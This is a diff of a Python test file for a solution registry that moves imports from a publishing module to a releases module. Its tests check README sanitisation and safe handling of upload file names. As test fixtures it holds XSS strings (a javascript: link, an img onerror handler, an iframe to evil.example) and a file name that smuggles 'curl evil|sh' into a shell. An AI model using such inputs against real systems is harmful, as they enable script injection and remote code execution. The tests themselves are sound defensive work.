@@ -12,7 +12,7 @@ from defusedxml import ElementTree
 
 from registry.catalog.adoption import record_adoption
 from registry.db import db
-from registry.publishing import states
+from registry.releases import states
 from tests.catalog.conftest import texts
 from tests.helpers import login
 from tests.publishing.packages import build_archive, package_files
@@ -163,9 +163,9 @@ def test_readme_is_rendered_and_sanitised(client, upload, vendor_tokens):
                           "[evil](javascript:alert(2)) <img src=x onerror=alert(3)>\n\n"
                           "<iframe src=https://evil.example></iframe>\n\n| a | b |\n|---|---|\n| 1 | 2 |\n").encode()
     upload(vendor_tokens("hanbit"), build_archive(files, root="parking-share-1.0.0"))
-    from registry.publishing import service
+    from registry.releases.service import get_release
 
-    states.transition_release(service.get_release("parking-share", "1.0.0"), "approve")
+    states.transition_release(get_release("parking-share", "1.0.0"), "approve")
     db.session.commit()
     page = text_of(client.get("/solutions/parking-share"))
     readme = page[page.index('id="readme-h"'):page.index('id="sbom-h"')]
@@ -249,18 +249,18 @@ HOSTILE_FILENAME = "x; curl evil|sh.tar.gz"
 
 def _approved(client, token: str, data: bytes, filename: str):
     """Upload through the real API under a client-chosen file name, then approve."""
-    from registry.publishing import service
+    from registry.releases.service import get_release
 
     response = client.post("/api/v1/solutions/parking-share/releases", content_type="multipart/form-data",
                            data={"archive": (io.BytesIO(data), filename)}, headers={"Authorization": f"Bearer {token}"})
     assert response.status_code == 201, response.json
-    release = service.get_release("parking-share", "1.0.0")
+    release = get_release("parking-share", "1.0.0")
     states.transition_release(release, "approve")
     return release
 
 
 def test_a_client_file_name_is_never_shown_or_used(client, vendor_tokens):
-    from registry.publishing.models import Artifact
+    from registry.releases.models import Artifact
 
     release = _approved(client, vendor_tokens("hanbit"), build_archive(package_files("parking-share", "1.0.0"),
                                                                        root="parking-share-1.0.0"), HOSTILE_FILENAME)
@@ -289,7 +289,7 @@ def test_a_client_file_name_is_never_shown_or_used(client, vendor_tokens):
 
 
 def test_install_commands_quote_manifest_paths(client, vendor_tokens):
-    from registry.publishing.models import DeployTarget
+    from registry.releases.models import DeployTarget
 
     _approved(client, vendor_tokens("hanbit"), build_archive(package_files("parking-share", "1.0.0"),
                                                              root="parking-share-1.0.0"), "주차.tar.gz")
